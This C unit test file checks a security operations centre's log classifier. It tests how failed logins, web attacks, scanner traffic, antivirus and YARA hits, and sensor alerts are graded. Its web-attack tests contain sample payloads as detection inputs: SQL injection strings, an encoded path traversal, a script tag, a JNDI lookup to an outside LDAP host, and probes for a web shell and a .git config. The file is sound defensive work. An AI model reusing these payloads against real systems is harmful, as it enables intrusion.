#include "collector/detect/classify.h"

#include <limits.h>
#include <stdio.h>

#include "tests/support/check.h"

static struct arena arena;
static struct classifier *classifier;

static struct classifier *shipped(void)
{
	char path[PATH_MAX];
	struct strbuf mistakes = STRBUF_INIT(1 << 16);

	snprintf(path, sizeof(path), "%s/configs/national/classes.yaml", getenv("SOC_SOURCE"));
	struct classifier *made = classifier_load(path, &mistakes);
	ck_assert_msg(made != NULL, "%s", strbuf_cstr(&mistakes));
	strbuf_done(&mistakes);
	return made;
}

static void setup(struct classifier *with)
{
	arena_init(&arena, 1 << 20);
	classifier = with;
}

static void teardown(void)
{
	classifier_free(classifier);
	arena_done(&arena);
}

/* Pairs of field and value, ended by FIELD_NONE. */
struct given {
	enum field_id id;
	const char *value;
};

static struct record record_of(const struct given *given)
{
	struct record record = {.kind = RECORD_LOG};

	for (; given->id != FIELD_NONE; given++)
		ck_assert(record_add(&record, &arena, given->id, slice_str(given->value)));
	return record;
}

#define RECORD(...) record_of((const struct given[]){__VA_ARGS__, {FIELD_NONE, NULL}})

static void expect(struct record record, enum attack_class attack, enum severity severity,
	const char *reason)
{
	classify_record(classifier, &record);
	ck_assert_slice_eq(classify_reason(classifier, &record), slice_str(reason));
	ck_assert_str_eq(
		attack_class_name((enum attack_class)record.attack), attack_class_name(attack));
	ck_assert_str_eq(
		severity_name((enum severity)record.severity), severity_name(severity));
}

static struct record request(const char *url, const char *agent)
{
	return RECORD({FIELD_EVENT_MODULE, "nginx"}, {FIELD_EVENT_OUTCOME, "failure"},
		{FIELD_URL_ORIGINAL, url}, {FIELD_USER_AGENT_ORIGINAL, agent});
}

static struct record said(const char *module, const char *action, const char *outcome)
{
	return RECORD({FIELD_EVENT_MODULE, module}, {FIELD_EVENT_ACTION, action},
		{FIELD_EVENT_OUTCOME, outcome});
}

START_TEST(refused_log_ins_to_services_count_and_the_others_do_not)
{
	static const struct {
		const char *module, *action, *reason;
	} logins[] = {
		{"openvpn", "vpn_login", "vpn-login-failed"},
		{"radius", "radius_login", "vpn-login-failed"},
		{"nextcloud", "web_login", "web-login-failed"},
		{"webapps", "web_login", "web-login-failed"},
		{"samba", "smb_login", "file-server-login-failed"},
		{"ftp", "ftp_login", "file-server-login-failed"},
		{"ldap", "ldap_bind", "directory-login-failed"},
		{"mssql", "database_login", "database-login-failed"},
		{"oracle", "database_login", "database-login-failed"},
		{"vmware", "vm_host_login", "vm-host-login-failed"},
		{"exchange", "smtp_login", "mail-failed-login"},
		{"zimbra", "mailbox_login", "mail-failed-login"},
	};

	setup(shipped());
	for (size_t i = 0; i < ARRAY_LEN(logins); i++) {
		expect(said(logins[i].module, logins[i].action, "failure"),
			CLASS_UNAUTHORIZED_ACCESS, SEVERITY_LOW, logins[i].reason);
		expect(said(logins[i].module, logins[i].action, "success"), CLASS_NONE,
			SEVERITY_NONE, "");
	}
	teardown();
}
END_TEST

START_TEST(what_a_web_application_firewall_stopped_is_an_attempt)
{
	setup(shipped());
	expect(said("modsecurity", "waf_request_denied", "failure"), CLASS_UNAUTHORIZED_ACCESS,
		SEVERITY_LOW, "waf-attack-stopped");
	expect(RECORD({FIELD_EVENT_MODULE, "apache"}, {FIELD_EVENT_ACTION, "waf_rule_matched"},
		       {FIELD_RULE_CATEGORY, "attack-sqli"}),
		CLASS_UNAUTHORIZED_ACCESS, SEVERITY_MEDIUM, "waf-attack-seen");
	expect(RECORD({FIELD_EVENT_MODULE, "nginx"}, {FIELD_EVENT_ACTION, "waf_rule_matched"},
		       {FIELD_RULE_CATEGORY, "anomaly-evaluation"}),
		CLASS_NONE, SEVERITY_NONE, "");
	teardown();
}
END_TEST

START_TEST(every_class_has_a_name_in_both_languages)
{
	setup(shipped());
	for (unsigned i = 0; i < CLASS_COUNT; i++) {
		const struct class_text *text =
			classifier_text(classifier, (enum attack_class)i);

		ck_assert_str_ne(text->vi, "");
		ck_assert_str_ne(text->en, "");
	}
	ck_assert_int_eq(classifier_text(classifier, CLASS_NONE)->counting, COUNTS_NOTHING);
	ck_assert_int_eq(classifier_text(classifier, CLASS_RECON)->counting, COUNTS_ATTACK);
	ck_assert_int_eq(classifier_text(classifier, CLASS_DISASTER)->counting, COUNTS_FAULT);
	teardown();
}
END_TEST

START_TEST(logins_count_by_outcome)
{
	setup(shipped());
	expect(RECORD({FIELD_EVENT_MODULE, "sshd"}, {FIELD_EVENT_ACTION, "ssh_login"},
		       {FIELD_EVENT_OUTCOME, "failure"}),
		CLASS_UNAUTHORIZED_ACCESS, SEVERITY_LOW, "ssh-failed-login");
	expect(RECORD({FIELD_EVENT_MODULE, "sshd"}, {FIELD_EVENT_ACTION, "ssh_login"},
		       {FIELD_EVENT_OUTCOME, "success"}),
		CLASS_NONE, SEVERITY_NONE, "");
	expect(RECORD({FIELD_EVENT_MODULE, "other"}, {FIELD_EVENT_ACTION, "ssh_login"},
		       {FIELD_EVENT_OUTCOME, "failure"}),
		CLASS_NONE, SEVERITY_NONE, "");
	teardown();
}
END_TEST

START_TEST(web_attacks_are_seen_through_escapes)
{
	setup(shipped());
	expect(request("/?id=1%20UNION%20SELECT%201", "x"), CLASS_UNAUTHORIZED_ACCESS,
		SEVERITY_MEDIUM, "web-sql-injection");
	expect(request("/?id=1+union/**/select+1", "x"), CLASS_UNAUTHORIZED_ACCESS,
		SEVERITY_MEDIUM, "web-sql-injection");
	expect(request("/a/%252e%252e%252fetc/hosts", "x"), CLASS_UNAUTHORIZED_ACCESS,
		SEVERITY_MEDIUM, "web-path-traversal");
	expect(request("/?q=%3CScRiPt%3E", "x"), CLASS_UNAUTHORIZED_ACCESS, SEVERITY_MEDIUM,
		"web-script-injection");
	expect(request("/", "${jndi:ldap://192.0.2.1/a}"), CLASS_UNAUTHORIZED_ACCESS,
		SEVERITY_MEDIUM, "web-attack-in-header");
	teardown();
}
END_TEST

START_TEST(scanners_are_recon)
{
	setup(shipped());
	expect(request("/", "sqlmap/1.7.2#stable (https://sqlmap.org)"), CLASS_RECON,
		SEVERITY_LOW, "web-scanner");
	expect(request("/wp-login.php", "Mozilla/5.0"), CLASS_RECON, SEVERITY_LOW, "web-probe");
	expect(RECORD({FIELD_EVENT_MODULE, "apache"}, {FIELD_EVENT_OUTCOME, "success"},
		       {FIELD_URL_ORIGINAL, "/jenkins/login"}),
		CLASS_NONE, SEVERITY_NONE, "");
	expect(RECORD({FIELD_EVENT_MODULE, "apache"}, {FIELD_EVENT_OUTCOME, "success"},
		       {FIELD_URL_ORIGINAL, "/.git/config"}),
		CLASS_UNAUTHORIZED_ACCESS, SEVERITY_MEDIUM, "web-secret-file");
	teardown();
}
END_TEST

START_TEST(ordinary_requests_are_nothing)
{
	static const char *const urls[] = {"/", "/index.html", "/tin-tuc?id=42&page=2",
		"/tim-kiem?q=th%E1%BB%A7+t%E1%BB%A5c+h%C3%A0nh+ch%C3%ADnh",
		"/api/v1/ho-so/selection?from=2026-01-01", "/docs/powershell-tutorial",
		"/static/app.1234.js", "/san-pham/union-square",
		"/unions/select-committee?order=by"};

	setup(shipped());
	for (size_t i = 0; i < ARRAY_LEN(urls); i++)
		expect(request(urls[i], "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
			CLASS_NONE, SEVERITY_NONE, "");
	teardown();
}
END_TEST

START_TEST(malware_is_as_grave_as_its_rule_says)
{
	setup(shipped());
	expect(RECORD({FIELD_EVENT_MODULE, "yara"}, {FIELD_EVENT_ACTION, "yara_match"},
		       {FIELD_SOC_MALWARE_SEVERITY, "low"}),
		CLASS_MALWARE, SEVERITY_LOW, "yara-hit-low");
	expect(RECORD({FIELD_EVENT_MODULE, "yara"}, {FIELD_TAGS, "pe"},
		       {FIELD_TAGS, "RansomWare"}, {FIELD_SOC_MALWARE_SEVERITY, "critical"}),
		CLASS_RANSOMWARE, SEVERITY_CRITICAL, "yara-hit-ransomware");
	expect(RECORD({FIELD_EVENT_MODULE, "keyvalue"}, {FIELD_THREAT_NAME, "W32/X"}),
		CLASS_MALWARE, SEVERITY_HIGH, "firewall-malware");
	expect(RECORD({FIELD_EVENT_MODULE, "keyvalue"}, {FIELD_THREAT_NAME, "W32/X"},
		       {FIELD_EVENT_ACTION, "quarantined"}),
		CLASS_MALWARE, SEVERITY_HIGH, "firewall-malware-resolved");
	teardown();
}
END_TEST

static unsigned flags_of_antivirus(const char *action, const char *outcome, const char *name)
{
	struct record record = RECORD({FIELD_EVENT_MODULE, "cef"}, {FIELD_EVENT_ACTION, action},
		{FIELD_EVENT_OUTCOME, outcome}, {FIELD_THREAT_NAME, name});

	classify_record(classifier, &record);
	return record.flags;
}

START_TEST(a_detection_says_what_became_of_it_or_another_record_does)
{
	setup(shipped());
	expect(RECORD({FIELD_EVENT_MODULE, "clamav"}, {FIELD_EVENT_ACTION, "malware-detected"},
		       {FIELD_THREAT_NAME, "Win.Trojan.X-1"}),
		CLASS_MALWARE, SEVERITY_HIGH, "antivirus-detection");
	expect(RECORD({FIELD_EVENT_MODULE, "cef"}, {FIELD_EVENT_ACTION, "malware-detected"},
		       {FIELD_EVENT_OUTCOME, "failure"}, {FIELD_THREAT_NAME, "Ransom:Win32/X"}),
		CLASS_RANSOMWARE, SEVERITY_CRITICAL, "antivirus-ransomware");
	expect(RECORD({FIELD_EVENT_MODULE, "cef"}, {FIELD_EVENT_ACTION, "malware-detected"},
		       {FIELD_EVENT_OUTCOME, "success"}, {FIELD_THREAT_NAME, "Ransom:Win32/X"}),
		CLASS_RANSOMWARE, SEVERITY_HIGH, "antivirus-ransomware-resolved");
	expect(RECORD({FIELD_EVENT_MODULE, "windows"},
		       {FIELD_EVENT_ACTION, "malware-action-taken"},
		       {FIELD_EVENT_OUTCOME, "success"}, {FIELD_THREAT_NAME, "X"}),
		CLASS_NONE, SEVERITY_NONE, "antivirus-outcome-resolved");
	ck_assert_uint_eq(
		flags_of_antivirus("malware-detected", "unknown", "X"), RECORD_MALWARE);
	ck_assert_uint_eq(flags_of_antivirus("malware-detected", "success", "X"),
		RECORD_MALWARE | RECORD_RESOLVED);
	ck_assert_uint_eq(flags_of_antivirus("malware-action-taken", "success", "X"),
		RECORD_OUTCOME | RECORD_RESOLVED);
	ck_assert_uint_eq(
		flags_of_antivirus("malware-action-failed", "failure", "X"), RECORD_OUTCOME);
	teardown();
}
END_TEST

START_TEST(a_test_file_is_marked_as_a_test_whatever_else_fits)
{
	setup(shipped());
	ck_assert_uint_eq(flags_of_antivirus("malware-detected", "failure",
				  "Ransom.EICAR-Test-File (not a virus)"),
		RECORD_MALWARE | RECORD_TEST);
	ck_assert_uint_eq(
		flags_of_antivirus("malware-action-taken", "success", "Eicar-Signature") &
			RECORD_TEST,
		RECORD_TEST);
	teardown();
}
END_TEST

START_TEST(what_a_sensor_reports_is_as_grave_as_it_says)
{
	setup(shipped());
	expect(RECORD({FIELD_EVENT_MODULE, "fortinet"}, {FIELD_SOC_ATTACK_CLASS, "dos"},
		       {FIELD_SOC_ATTACK_SEVERITY, "high"}),
		CLASS_DOS, SEVERITY_HIGH, "device-dos");
	expect(RECORD({FIELD_EVENT_MODULE, "suricata"}, {FIELD_SOC_ATTACK_CLASS, "recon"},
		       {FIELD_SOC_ATTACK_SEVERITY, "low"}),
		CLASS_RECON, SEVERITY_LOW, "device-recon");
	expect(RECORD({FIELD_EVENT_MODULE, "snort"}, {FIELD_SOC_ATTACK_CLASS, "malware"}),
		CLASS_MALWARE, SEVERITY_MEDIUM, "device-malware");
	expect(RECORD({FIELD_EVENT_MODULE, "json"}, {FIELD_SOC_ATTACK_CLASS, "malware"}),
		CLASS_NONE, SEVERITY_NONE, "");
	teardown();
}
END_TEST

START_TEST(what_a_stranger_can_ask_for_is_no_finding_of_malware)
{
	setup(shipped());
	struct record probe = RECORD({FIELD_EVENT_MODULE, "nginx"},
		{FIELD_EVENT_OUTCOME, "success"}, {FIELD_URL_ORIGINAL, "/shell.php?1"});
	struct record found =
		RECORD({FIELD_EVENT_MODULE, "keyvalue"}, {FIELD_THREAT_NAME, "W32/X"});

	expect(probe, CLASS_UNAUTHORIZED_ACCESS, SEVERITY_MEDIUM, "web-shell");
	classify_record(classifier, &probe);
	classify_record(classifier, &found);
	ck_assert_uint_eq(probe.flags, 0);
	ck_assert_uint_eq(found.flags, RECORD_MALWARE);
	teardown();
}
END_TEST

START_TEST(what_its_product_put_right_is_resolved)
{
	setup(shipped());
	struct record gone = RECORD({FIELD_EVENT_MODULE, "keyvalue"},
		{FIELD_EVENT_ACTION, "deleted"}, {FIELD_THREAT_NAME, "W32/X"});
	struct record found = RECORD({FIELD_EVENT_MODULE, "keyvalue"},
		{FIELD_EVENT_ACTION, "found"}, {FIELD_THREAT_NAME, "W32/X"});
	struct record other =
		RECORD({FIELD_EVENT_MODULE, "keyvalue"}, {FIELD_EVENT_ACTION, "deleted"});

	classify_record(classifier, &gone);
	classify_record(classifier, &found);
	classify_record(classifier, &other);
	ck_assert_uint_eq(gone.flags, RECORD_MALWARE | RECORD_RESOLVED);
	ck_assert_uint_eq(found.flags, RECORD_MALWARE);
	ck_assert_uint_eq(other.flags, 0);
	teardown();
}
END_TEST

static const char small[] = "classes:\n"
			    "  - {class: recon, vi: a, en: b}\n"
			    "rules:\n"
			    "  - {id: any, class: recon, severity: low, actions: [probe]}\n"
			    "  - {id: graver, class: dos, severity: high, modules: [m],\n"
			    "     actions: [probe]}\n"
			    "  - {id: equal, class: deface, severity: high, modules: [m],\n"
			    "     actions: [probe]}\n";

START_TEST(the_gravest_decides_then_the_first)
{
	struct strbuf mistakes = STRBUF_INIT(1 << 16);

	setup(classifier_parse("small", slice_str(small), &mistakes));
	ck_assert_msg(classifier != NULL, "%s", strbuf_cstr(&mistakes));
	expect(RECORD({FIELD_EVENT_MODULE, "m"}, {FIELD_EVENT_ACTION, "probe"}), CLASS_DOS,
		SEVERITY_HIGH, "graver");
	expect(RECORD({FIELD_EVENT_MODULE, "unheard"}, {FIELD_EVENT_ACTION, "probe"}),
		CLASS_RECON, SEVERITY_LOW, "any");
	expect(RECORD({FIELD_EVENT_ACTION, "probe"}), CLASS_RECON, SEVERITY_LOW, "any");
	strbuf_done(&mistakes);
	teardown();
}
END_TEST

START_TEST(findings_keep_their_class)
{
	struct batch batch;

	setup(shipped());
	batch_init(&batch);
	struct record record = {
		.kind = RECORD_FINDING, .attack = CLASS_DOS, .severity = SEVERITY_CRITICAL};
	batch.records = &record;
	batch.n_records = 1;
	classify_batch(classifier, &batch);
	ck_assert_uint_eq(record.attack, CLASS_DOS);
	batch_done(&batch);
	teardown();
}
END_TEST

static void expect_mistake(const char *rule, const char *words)
{
	struct strbuf text = STRBUF_INIT(1 << 16), mistakes = STRBUF_INIT(1 << 16);

	strbuf_add_str(&text, "classes:\n  - {class: recon, vi: a, en: b}\nrules:\n  - {");
	strbuf_add_str(&text, rule);
	strbuf_add_str(&text, "}\n");
	ck_assert_ptr_null(classifier_parse("f.yaml", strbuf_slice(&text), &mistakes));
	ck_assert_msg(strstr(strbuf_cstr(&mistakes), words) != NULL, "got: %s",
		strbuf_cstr(&mistakes));
	ck_assert(slice_starts(strbuf_slice(&mistakes), SLICE_LIT("f.yaml:4:")));
	strbuf_done(&text);
	strbuf_done(&mistakes);
}

START_TEST(mistakes_say_where_they_are)
{
	expect_mistake("id: a, class: recon, severity: low", "without conditions");
	expect_mistake("id: a, class: recon, severity: none, actions: [x]", "severity none");
	expect_mistake("id: a, class: rekon, severity: low, actions: [x]", "recon");
	expect_mistake("id: a, class: recon, severity: low, contains: [abc]", "need 'fields'");
	expect_mistake("id: a, class: recon, severity: low, fields: [url.orginal]",
		"no field is called 'url.orginal'");
	expect_mistake("id: a, class: recon, severity: low, fields: [tags], contains: [a]",
		"2 to 64 bytes");
}
END_TEST

TEST_MAIN("classify", refused_log_ins_to_services_count_and_the_others_do_not,
	what_a_web_application_firewall_stopped_is_an_attempt,
	every_class_has_a_name_in_both_languages, logins_count_by_outcome,
	web_attacks_are_seen_through_escapes, scanners_are_recon, ordinary_requests_are_nothing,
	malware_is_as_grave_as_its_rule_says, what_a_sensor_reports_is_as_grave_as_it_says,
	a_detection_says_what_became_of_it_or_another_record_does,
	a_test_file_is_marked_as_a_test_whatever_else_fits,
	what_a_stranger_can_ask_for_is_no_finding_of_malware,
	what_its_product_put_right_is_resolved, the_gravest_decides_then_the_first,
	findings_keep_their_class, mistakes_say_where_they_are)
